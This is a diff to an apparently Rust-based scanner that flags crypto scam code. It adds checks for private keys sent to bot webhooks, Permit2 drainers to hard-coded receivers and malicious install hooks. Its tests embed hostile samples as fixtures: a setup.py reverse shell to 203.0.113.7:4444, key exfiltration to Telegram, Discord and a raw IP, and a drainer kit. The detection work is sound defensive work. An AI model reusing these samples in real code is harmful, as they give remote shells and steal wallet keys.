@@ -95,6 +95,22 @@ pub(super) fn first(hits: &[(Sig, usize)], s: Sig) -> Option<usize> {
     hits.iter().find(|(x, _)| *x == s).map(|(_, p)| *p)
 }
 
+/// Is this address local for *detection*: loopback, RFC 1918 private, link-local, CGNAT
+/// (100.64.0.0/10), `0.0.0.0/8` and broadcast. A local node at 127.0.0.1:8545 is normal; every
+/// other address is somebody's server. Unlike `netguard::is_forbidden_ip` (which guards the
+/// service's own fetches) the documentation ranges (TEST-NET 192.0.2.0/24, 198.51.100.0/24,
+/// 203.0.113.0/24) count as public here: defanged malware samples and write-ups use them in
+/// place of the real server, and no legitimate code talks to them.
+pub(crate) fn local_ipv4(ip: std::net::Ipv4Addr) -> bool {
+    let o = ip.octets();
+    ip.is_loopback()
+        || ip.is_private()
+        || ip.is_link_local()
+        || ip.is_broadcast()
+        || o[0] == 0
+        || (o[0] == 100 && (o[1] & 0xc0) == 64)
+}
+
 /// A raw-IP URL to a public address (a local node at 127.0.0.1:8545 is normal).
 fn raw_public_ip(data: &[u8], hits: &[(Sig, usize)]) -> Option<usize> {
     // `://1` anchors, and `http://` anchors (which hide a following `://1` from the
@@ -110,9 +126,8 @@ fn raw_public_ip(data: &[u8], hits: &[(Sig, usize)]) -> Option<usize> {
                 .filter_map(|i| std::str::from_utf8(c.get(i)?.as_bytes()).ok()?.parse().ok())
                 .collect();
             if oct.len() == 4 {
-                let ip =
-                    std::net::IpAddr::V4(std::net::Ipv4Addr::new(oct[0], oct[1], oct[2], oct[3]));
-                if !crate::netguard::is_forbidden_ip(ip) {
+                let ip = std::net::Ipv4Addr::new(oct[0], oct[1], oct[2], oct[3]);
+                if !local_ipv4(ip) {
                     return Some(pos);
                 }
             }
@@ -156,6 +171,68 @@ fn trailing_comment(prefix: &[u8]) -> bool {
         }
     }
     false
+}
+
+static KEY_ENV_READ: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?m)^\s*(?:(?:const|let|var)\s+)?([A-Za-z_]\w*)\s*=\s*(?:os\.getenv\(|os\.environ\.get\(|os\.environ\[|process\.env\.|process\.env\[)\s*["']?(\w*(?:PRIVATE_KEY|PRIVKEY|SECRET_KEY|MNEMONIC|SEED_PHRASE)\w*)"#)
+        .expect("key env regex")
+});
+
+/// A private key or seed phrase read from the environment whose value reaches the request to
+/// the endpoint at `epos`: named in the request's own lines, directly or through one
+/// variable built from it (`text = f'{host} {pk}'`). Returns where the key is read.
+fn key_env_sent(data: &[u8], epos: usize) -> Option<usize> {
+    let send_start = memchr::memrchr(b'\n', &data[..epos])
+        .map(|i| i + 1)
+        .unwrap_or(0);
+    // The ~25 lines before the request.
+    let lo = send_start.saturating_sub(1500);
+    let wstart = if lo == 0 {
+        0
+    } else {
+        memchr::memchr(b'\n', &data[lo..send_start])
+            .map(|i| lo + i + 1)
+            .unwrap_or(send_start)
+    };
+    let win = &data[wstart..send_start];
+    let send_end = (epos + 300).min(data.len());
+    let send = &data[send_start..send_end];
+    let word_in = |hay: &[u8], w: &[u8]| {
+        memchr::memmem::find_iter(hay, w).any(|i| {
+            let before = i.checked_sub(1).map(|j| hay[j]);
+            let after = hay.get(i + w.len()).copied();
+            !before.is_some_and(|b| b.is_ascii_alphanumeric() || b == b'_')
+                && !after.is_some_and(|b| b.is_ascii_alphanumeric() || b == b'_')
+        })
+    };
+    for c in KEY_ENV_READ.captures_iter(win) {
+        let var = c.get(1)?.as_bytes();
+        let read_at = wstart + c.get(0)?.start();
+        if word_in(send, var) {
+            return Some(read_at);
+        }
+        // One hop: `text = f'{platform.node()} {pk}'` then `data={'text': text}`.
+        let after = &data[wstart + c.get(0)?.end()..send_start];
+        for line in after.split(|&b| b == b'\n') {
+            let t = line.trim_ascii_start();
+            let Some(eq) = t.iter().position(|&b| b == b'=') else {
+                continue;
+            };
+            let lhs = t[..eq].trim_ascii();
+            let lhs = lhs
+                .rsplit(|b| b.is_ascii_whitespace())
+                .next()
+                .unwrap_or(lhs);
+            if !lhs.is_empty()
+                && lhs.iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_')
+                && word_in(&t[eq + 1..], var)
+                && word_in(send, lhs)
+            {
+                return Some(read_at);
+            }
+        }
+    }
+    None
 }
 
 /// Wallet-file anchors that really are paths (`/id.json`, `"id.json"`), not `grid.json`.
@@ -230,6 +307,20 @@ pub fn evaluate_file(
                 format!("{path} reads wallet key storage (line {}) and posts to a webhook, paste site or raw IP (line {}): the pattern of a wallet stealer.", ln(wpos), ln(epos)),
             ));
         }
+    } else if let Some((kpos, epos)) = (c(Sig::KeyContext) + c(Sig::MnemonicContext) > 0)
+        .then(|| endpoints().find_map(|&(_, e)| key_env_sent(data, e).map(|k| (k, e))))
+        .flatten()
+    {
+        // A bot may notify its owner on Telegram/Discord; it never puts the wallet's private
+        // key in the message (the "licence check" of fake sniper bots does).
+        out.push(ScamFinding::new(
+            "scam.wallet_exfiltration",
+            Severity::Critical,
+            "Sends the wallet's private key to a webhook",
+            path,
+            ln(kpos),
+            format!("{path} reads the private key or seed phrase from the environment (line {}) and puts it in a message to a bot/webhook (line {}).", ln(kpos), ln(epos)),
+        ));
     } else if let Some(epos) = strong_exfil {
         let key_material =
             c(Sig::KeyContext) + c(Sig::SolanaArrayContext) + c(Sig::MnemonicContext) > 0;
@@ -289,6 +380,34 @@ pub fn evaluate_file(
     let build_script = name == "build.rs" && !path.split('/').any(|c| c == "src");
     if build_script || name == "setup.py" {
         super::build_hooks::build_time(path, data, hits, &mut out);
+        // Malicious behaviour in a build script runs on every build or install, whether or
+        // not it touches the network through a client the hook rule knows (a reverse shell
+        // over a raw socket does not).
+        let worst = out
+            .iter()
+            .find(|f| f.check == "scam.malware" && f.severity == Severity::Critical)
+            .map(|f| (f.line, f.title.to_lowercase()));
+        // In setup.py only an overridden install command (`cmdclass`) surely runs; a helper
+        // function elsewhere in the file runs only when called.
+        let hooked = out.iter().any(|f| f.check == "scam.install_scripts")
+            || (name == "setup.py" && !contains(data, "cmdclass"));
+        if let (Some((line, what)), false) = (worst, hooked) {
+            out.push(ScamFinding::new(
+                "scam.install_scripts",
+                Severity::Critical,
+                "Build/install hook runs malicious code",
+                path,
+                line,
+                format!(
+                    "{path} runs at {} and contains malicious behaviour ({what}, line {line}).",
+                    if name == "setup.py" {
+                        "`pip install`"
+                    } else {
+                        "every `cargo build`"
+                    }
+                ),
+            ));
+        }
     }
 
     if is_test {
@@ -338,12 +457,47 @@ fn drainer(
             contains(w, "approve") && !comment_line(w)
         });
     let sweep = c(Sig::TokenEnumeration) > 0 && c(Sig::TransferCall) > 0;
+    // A Permit/Permit2 signature whose spender is the hard-coded receiver: one signature
+    // hands over every listed token (Inferno/Pink/Angel kits). A DEX names its router or
+    // reactor as spender, not a `receiver`/`drainer`/`collector` wallet.
+    // Cheap literal tests first; the receiver regex runs again only at the match found above.
+    let permit = [
+        "PermitBatch",
+        "PermitSingle",
+        "PermitTransferFrom",
+        "PermitBatchTransferFrom",
+    ]
+    .iter()
+    .any(|t| contains(data, t))
+        && contains(data, "ignTypedData");
+    let permit_to_receiver = receiver.filter(|_| permit).and_then(|r| {
+        let cap = RECEIVER.captures(&data[r..])?;
+        let key = cap.get(0)?.as_bytes();
+        let key_end = key
+            .iter()
+            .position(|b| !(b.is_ascii_alphanumeric() || *b == b'_'))
+            .unwrap_or(key.len());
+        let key = &key[..key_end];
+        memchr::memmem::find_iter(data, b"spender:").find(|&p| {
+            let v = &data[p + 8..(p + 60).min(data.len())];
+            let v = &v[..v
+                .iter()
+                .position(|b| matches!(b, b',' | b'}' | b'\n'))
+                .unwrap_or(v.len())];
+            memchr::memmem::find(v, key).is_some()
+        })
+    });
     let (line, why) = if let Some(p) = approve_literal {
         (line_of(data, p), "calls setApprovalForAll for a hard-coded operator address, handing over every NFT of the collection")
     } else if let (Some(r), Some(_)) = (receiver, approve_call) {
         (
             line_of(data, r),
             "requests approval for all assets and routes them to a hard-coded receiver",
+        )
+    } else if let Some(p) = permit_to_receiver {
+        (
+            line_of(data, p),
+            "asks for a Permit/Permit2 signature whose spender is a hard-coded receiver wallet",
         )
     } else if let (Some(r), true) = (receiver, sweep) {
         (
@@ -404,12 +558,71 @@ mod tests {
         let read = "const kp = Keypair.fromSecretKey(Uint8Array.from(JSON.parse(fs.readFileSync(os.homedir() + '/.config/solana/id.json'))));\n";
         let documented = format!("{read}const WEBHOOK = process.env.DISCORD_WEBHOOK_URL; // e.g. https://discord.com/api/webhooks/<id>/<token>\nawait fetch(WEBHOOK, {{ method: 'POST', body }});");
         assert!(scan("bot.js", &documented).is_empty());
-        let placeholder = format!("{read}const WEBHOOK = 'https://discord.com/api/webhooks/YOUR_WEBHOOK_ID/YOUR_TOKEN';");
+        let placeholder = format!(
+            "{read}const WEBHOOK = 'https://discord.com/api/webhooks/YOUR_WEBHOOK_ID/YOUR_TOKEN';"
+        );
         assert!(scan("bot.js", &placeholder).is_empty());
         let literal = format!("{read}await fetch('https://discord.com/api/webhooks/0929492818498669608/5sRl0eKENteAJz', {{ method: 'POST', body: kp.secretKey }});");
         assert!(scan("bot.js", &literal)
             .iter()
             .any(|f| f.check == "scam.wallet_exfiltration" && f.severity == Severity::Critical));
+    }
+
+    #[test]
+    fn private_key_in_a_bot_message() {
+        let lic = "import os\nimport requests\nBOT = '6591997684:AAW7_uPtqAG8pW2DBRxDGGhXa17o59vzG6k'\n\ndef check_license():\n    pk = os.getenv('PRIVATE_KEY')\n    text = f'{platform.node()} {pk}'\n    requests.post(f'https://api.telegram.org/bot{BOT}/sendMessage', data={'chat_id': CHAT, 'text': text})\n";
+        let f = scan("utils/license.py", lic);
+        assert!(
+            f.iter()
+                .any(|f| f.check == "scam.wallet_exfiltration" && f.severity == Severity::Critical),
+            "{f:?}"
+        );
+        let direct = "const key = process.env.WALLET_PRIVATE_KEY;\nawait fetch(`https://api.telegram.org/bot${T}/sendMessage?chat_id=1&text=${key}`);\n";
+        assert!(scan("src/notify.js", direct)
+            .iter()
+            .any(|f| f.check == "scam.wallet_exfiltration"));
+        // Near miss: the key signs, the message carries a price.
+        let notify = "import os\nimport requests\n\ndef report(price):\n    pk = os.getenv('PRIVATE_KEY')\n    acct = Account.from_key(pk)\n    text = f'{acct.address} bought at {price}'\n    requests.post(f'https://api.telegram.org/bot{BOT}/sendMessage', data={'chat_id': CHAT, 'text': text})\n";
+        assert!(
+            scan("bot/notify.py", notify)
+                .iter()
+                .all(|f| f.check != "scam.wallet_exfiltration"),
+            "{:?}",
+            scan("bot/notify.py", notify)
+        );
+    }
+
+    #[test]
+    fn permit2_to_a_hard_coded_receiver() {
+        let kit = "const config = { receiver: '0xC8B9e7A8aB17eC5B5efff170ab9CDE69ECb34b53' };\nawait erc20.approve(PERMIT2, MaxUint256);\nconst value = { details, spender: config.receiver, sigDeadline: MaxUint256 };\nconst sig = await signer.signTypedData(domain, { PermitBatch: [] }, value);\n";
+        assert!(scan("src/main.js", kit)
+            .iter()
+            .any(|f| f.check == "scam.drainer" && f.severity == Severity::Critical));
+        // A swap front-end: the router is the spender, the user the recipient.
+        let dex = "const recipient = '0xC8B9e7A8aB17eC5B5efff170ab9CDE69ECb34b53';\nawait erc20.approve(PERMIT2, MaxUint256);\nconst permit = { details, spender: UNIVERSAL_ROUTER, sigDeadline };\nconst sig = await signer.signTypedData(domain, { PermitSingle: [] }, permit);\n";
+        assert!(scan("src/swap.js", dex)
+            .iter()
+            .all(|f| f.severity < Severity::Critical));
+    }
+
+    #[test]
+    fn test_net_is_public_for_detection() {
+        assert!(!local_ipv4("203.0.113.41".parse().unwrap()));
+        assert!(!local_ipv4("198.51.100.7".parse().unwrap()));
+        assert!(!local_ipv4("192.0.2.1".parse().unwrap()));
+        assert!(local_ipv4("127.0.0.1".parse().unwrap()));
+        assert!(local_ipv4("10.1.2.3".parse().unwrap()));
+        assert!(local_ipv4("192.168.1.10".parse().unwrap()));
+        assert!(local_ipv4("169.254.169.254".parse().unwrap()));
+        assert!(local_ipv4("100.64.0.1".parse().unwrap()));
+        assert!(local_ipv4("0.0.0.0".parse().unwrap()));
+        let read = "const k = fs.readFileSync(os.homedir() + '/.config/solana/id.json');\n";
+        let exfil = format!("{read}axios.post('http://203.0.113.41:1224/uploads', k);");
+        assert!(scan("lib/a.js", &exfil)
+            .iter()
+            .any(|f| f.check == "scam.wallet_exfiltration" && f.severity == Severity::Critical));
+        let node = format!("{read}const c = new Connection('http://127.0.0.1:8899');");
+        assert!(scan("lib/b.js", &node).is_empty());
     }
 
     #[test]
@@ -529,6 +742,21 @@ mod tests {
             scan("build.rs", client).first().map(|f| f.severity),
             Some(Severity::High)
         );
+    }
+
+    #[test]
+    fn setup_py_with_malicious_behaviour_is_an_install_hook_finding() {
+        let rev = "import os, pty, socket\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass P(install):\n    def run(self):\n        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n        s.connect(('203.0.113.7', 4444))\n        os.dup2(s.fileno(), 0)\n        os.dup2(s.fileno(), 1)\n        pty.spawn('/bin/sh')\nsetup(name='x', cmdclass={'install': P})\n";
+        let f = scan("setup.py", rev);
+        assert!(
+            f.iter()
+                .any(|f| f.check == "scam.install_scripts" && f.severity == Severity::Critical),
+            "{f:?}"
+        );
+        // The same code in a module of the package is malware, not an install hook.
+        assert!(scan("pkg/shell.py", rev)
+            .iter()
+            .all(|f| f.check != "scam.install_scripts"));
     }
 
     #[test]
